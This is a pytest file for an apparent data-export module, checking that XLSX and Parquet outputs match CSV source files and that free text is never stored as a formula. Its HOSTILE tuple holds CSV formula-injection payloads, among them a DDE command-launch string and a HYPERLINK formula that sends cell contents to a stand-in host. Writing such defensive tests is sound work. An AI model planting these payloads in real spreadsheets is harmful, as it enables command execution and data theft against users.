"""The spreadsheet and the typed tables of a package: equal to its CSV files cell by cell, and nothing in them is executed."""

import csv
import re
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pyarrow.parquet as pq
import pytest

from corelab.export import parquet, xlsx
from corelab.export.columns import Column, Table
from corelab.export.parquet import files
from corelab.export.proof_tables import MEASUREMENTS
from corelab.export.readme import readme
from corelab.export.tables import NOTES, READINGS
from corelab.export.writers import ColumnsDifferError
from corelab.export.written import PartRefusedError, Written
from corelab.export.xlsx import look
from corelab.export.xlsx.cells import decimals_of, is_executed
from tests.written_builders import FACTS, a_row, written
from tests.written_packages import a_package

HOSTILE = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "{=1+1}",
    " =1+1",
    "<r><t>=1+1</t></r>",
    "_x003D_1+1",
    "\uff1d1+1",
    "\n=1+1",
    "=1+1\n=2+2",
    "a\r\nb",
    "</t></is></c><c><f>1+1</f>",
    "\x01\x0b\ufffe end",
    "  kept  ",
    "00123",
    "1E5",
    "TRUE",
    "#REF!",
)
"""What a cell could be taken for; the first thirteen are what spreadsheets and CSV readers are known to execute or unfold."""


def cells_of(package: Written, name: str) -> Iterator[tuple[Column, str]]:
    for row in package.rows(name):
        for column in package.table(name).columns:
            yield column, row[column.name]


def book(into: Path) -> Any:
    return openpyxl.load_workbook(into / "xlsx" / "results.xlsx")


def said(cell: Any) -> str:
    """What a sheet shows: a number in the digits of its format, a text as it is; openpyxl leaves the escapes of the format."""
    if cell.value is None:
        return ""
    if cell.data_type == "n":
        digits = len(cell.number_format.partition(".")[2])
        return f"{Decimal(repr(cell.value)):.{digits}f}"
    return re.sub(r"_x([0-9A-F]{4})_", lambda found: chr(int(found[1], 16)), str(cell.value))


def test_every_table_is_a_sheet_that_says_what_its_file_says(tmp_path: Path) -> None:
    package = a_package(tmp_path / "p")
    xlsx.write_results(package, tmp_path)
    made = book(tmp_path)
    assert made.sheetnames == ["About", *(table.name for table in package.tables)]
    for table in package.tables:
        rows = list(made[table.name].iter_rows())
        assert tuple(cell.value for cell in rows[0]) == table.names
        expected = [list(row.values()) for row in package.rows(table.name)]
        assert [[said(cell) for cell in row] for row in rows[1:]] == expected
        assert {cell.data_type for row in rows for cell in row} <= {"n", "s", "inlineStr"}


def test_numbers_are_numbers_where_their_digits_come_back(tmp_path: Path) -> None:
    rows = [
        a_row(MEASUREMENTS, RECID="r", MSEQ=str(n), MVAL=value)
        for n, value in enumerate(("4.50", "0.00", "-12.125", "007", "-0.0", "1234567890.1234567", "1e3", ".5"), 1)
    ]
    xlsx.write_results(written(tmp_path / "p", {"measurements": rows}), tmp_path)
    sheet = book(tmp_path)["measurements"]
    at = MEASUREMENTS.names.index("MVAL")
    found = [(row[at].value, row[at].number_format) for row in sheet.iter_rows(min_row=2)]
    assert found == [
        (4.5, "0.00"), (0, "0.00"), (-12.125, "0.000"), ("007", "General"), ("-0.0", "@"),
        ("1234567890.1234567", "General"), ("1e3", "General"), (".5", "General"),
    ]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_that_text_and_no_formula(tmp_path: Path, text: str) -> None:
    note = a_row(NOTES, STUDYID="DVT-LE", USUBJID="S1", VISITNUM="1", VISIT="BL", RECID="r", NOTE=text)
    xlsx.write_results(written(tmp_path / "p", {"notes": [note]}), tmp_path)
    cell = book(tmp_path)["notes"].cell(2, NOTES.names.index("NOTE") + 1)
    assert cell.data_type in {"s", "inlineStr"}
    # openpyxl reads line ends as XML does, and unfolds no escape
    assert said(cell) == text
    if text.startswith(("=", "+", "-", "@", "\t", "\r")):
        assert (cell.number_format, cell.quotePrefix) == ("@", True)
    with zipfile.ZipFile(tmp_path / "xlsx" / "results.xlsx") as archive:
        assert not [name for name in archive.namelist() if b"<f>" in archive.read(name) or b"<f " in archive.read(name)]


def test_the_texts_that_a_spreadsheet_executes_are_known() -> None:
    assert [one for one in HOSTILE if not is_executed(one)] == [
        "{=1+1}", "<r><t>=1+1</t></r>", "_x003D_1+1", "a\r\nb", "</t></is></c><c><f>1+1</f>", "\x01\x0b\ufffe end", "  kept  ", "00123",
        "1E5", "TRUE", "#REF!",
    ]  # fmt: skip


def test_a_column_of_text_never_becomes_a_number() -> None:
    assert decimals_of(Column("A", "A"), "12") is None
    assert decimals_of(Column("A", "A", "integer"), "12") == 0


def test_a_table_longer_than_a_sheet_says_so_at_its_head_and_on_the_first_sheet(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(look, "LINES", 4)
    rows = [a_row(MEASUREMENTS, RECID=f"r{n}", MSEQ="1") for n in range(5)]
    package = written(tmp_path / "p", {"measurements": rows})
    xlsx.write_results(package, tmp_path)
    made = book(tmp_path)
    told = "Only the first 3 of 5 rows stand in a sheet; all of them are in data/measurements.csv"
    assert made["measurements"].cell(1, len(MEASUREMENTS.names) + 1).value == told
    assert made["measurements"].max_row == 4
    assert [cell.value for row in made["About"].iter_rows() for cell in row if told in str(cell.value)] != []
    assert look.beyond({"measurements": 5, "notes": 3}) == (told,)
    assert f"{told}." in readme({**FACTS, "parts": ["xlsx"]}, {"measurements": 5, "notes": 3}, "TEST")
    assert told not in readme({**FACTS, "parts": []}, {"measurements": 5}, "TEST")


def test_the_readme_says_how_the_code_na_is_kept_from_being_a_missing_value() -> None:
    """Without these words pandas and R read what is not applicable as unknown."""
    text = readme({**FACTS, "parts": []}, {"results": 5}, "PROD")
    assert 'keep_default_na=False, na_values=[""]' in text
    assert 'na.strings = ""' in text


def test_a_text_that_no_cell_can_hold_is_refused_not_cut(tmp_path: Path) -> None:
    note = a_row(NOTES, RECID="r", NOTE="x" * 32_768)
    with pytest.raises(PartRefusedError, match=re.escape("xlsx/results.xlsx: a text of 32768 characters")):
        xlsx.write_results(written(tmp_path / "p", {"notes": [note]}), tmp_path)


def test_the_head_stands_still_and_has_a_filter(tmp_path: Path) -> None:
    package = a_package(tmp_path / "p")
    xlsx.write_results(package, tmp_path)
    sheet = book(tmp_path)["readings"]
    count = sum(1 for _ in package.rows("readings"))
    assert (sheet.freeze_panes, sheet.dimensions) == ("A2", sheet.auto_filter.ref)
    assert sheet.max_row == count + 1


# ---------------------------------------------------------------- parquet


def text_of(column: Column, value: Any) -> str:
    if value is None:
        return ""
    if isinstance(value, datetime):
        return value.astimezone(UTC).isoformat(timespec="milliseconds").replace("+00:00", "Z")
    return value.isoformat() if isinstance(value, date) else str(value)


def test_typed_tables_say_what_the_files_say(tmp_path: Path) -> None:
    package = a_package(tmp_path / "p")
    parquet.write(package, tmp_path)
    for table in package.tables:
        made = pq.read_table(tmp_path / "parquet" / f"{table.name}.parquet")
        assert tuple(made.column_names) == table.names
        found = [[text_of(column, row[column.name]) for column in table.columns] for row in made.to_pylist()]
        assert found == [list(row.values()) for row in package.rows(table.name)]


def test_columns_have_types_labels_and_are_packed(tmp_path: Path) -> None:
    parquet.write(a_package(tmp_path / "p"), tmp_path)
    made = pq.ParquetFile(tmp_path / "parquet" / "readings.parquet")
    types = {field.name: str(field.type) for field in made.schema_arrow}
    assert (types["VISITNUM"], types["EXAMDTC"], types["SIGNDTC"], types["RESN"], types["RESCD"]) == (
        "int64", "date32[day]", "timestamp[ms, tz=UTC]", "string", "string",
    )  # fmt: skip
    assert made.schema_arrow.field("RESCD").metadata[b"label"] == b"Grade: the option's code, or NA, NE, NI"
    assert made.metadata.row_group(0).column(0).compression == "ZSTD"
    assert made.schema_arrow.metadata[b"transfer"] == b"T003"


def test_long_tables_stand_in_groups_of_rows(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(files, "_BLOCK", 8192)
    rows = [a_row(MEASUREMENTS, RECID=f"r{n:04}", MSEQ="1", UNIT="mm") for n in range(1500)]
    package = written(tmp_path / "p", {"measurements": rows})
    parquet.write(package, tmp_path)
    made = pq.ParquetFile(tmp_path / "parquet" / "measurements.parquet")
    assert made.num_row_groups > 2
    assert [row["RECID"] for row in made.read().to_pylist()] == [row["RECID"] for row in package.rows("measurements")]


@pytest.mark.parametrize("text", HOSTILE)
def test_free_text_comes_back_from_a_typed_table_to_the_letter(tmp_path: Path, text: str) -> None:
    parquet.write(written(tmp_path / "p", {"notes": [a_row(NOTES, RECID="r", NOTE=text), a_row(NOTES, RECID="s", NOTE="after")]}), tmp_path)
    assert pq.read_table(tmp_path / "parquet" / "notes.parquet").column("NOTE").to_pylist() == [text, "after"]


def test_other_columns_than_expected_are_refused(tmp_path: Path) -> None:
    package = written(tmp_path / "p", {})
    path = package.folder / MEASUREMENTS.path
    path.write_text(path.read_text(encoding="utf-8").replace("MVAL", "MVALUE"), encoding="utf-8")
    with pytest.raises(ColumnsDifferError):
        parquet.write(package, tmp_path)


@pytest.mark.parametrize(("column", "value"), [("MSEQ", "1.0"), ("MSEQ", "07"), ("FRAME", "9" * 20), ("REGION", "x"), ("FRAME", " 1")])
def test_what_a_type_would_not_give_back_is_refused(tmp_path: Path, column: str, value: str) -> None:
    package = written(tmp_path / "p", {})
    rewrite(package, MEASUREMENTS, {column: value})
    with pytest.raises(PartRefusedError, match=f"{column} holds '{value}'"):
        parquet.write(package, tmp_path)


@pytest.mark.parametrize(("column", "value"), [("SIGNDTC", "2026-01-12T10:00:00Z"), ("SIGNDTC", "2026-01-12"), ("EXAMDTC", "2026-1-2")])
def test_a_time_that_would_be_said_otherwise_is_refused(tmp_path: Path, column: str, value: str) -> None:
    package = written(tmp_path / "p", {})
    rewrite(package, READINGS, {column: value})
    with pytest.raises(PartRefusedError, match=f"{column} holds '{value}'"):
        parquet.write(package, tmp_path)


def rewrite(package: Written, table: Table, cells: dict[str, str]) -> None:
    with (package.folder / table.path).open("a", encoding="utf-8", newline="") as file:
        csv.writer(file, lineterminator="\n").writerow(a_row(table, **cells).values())
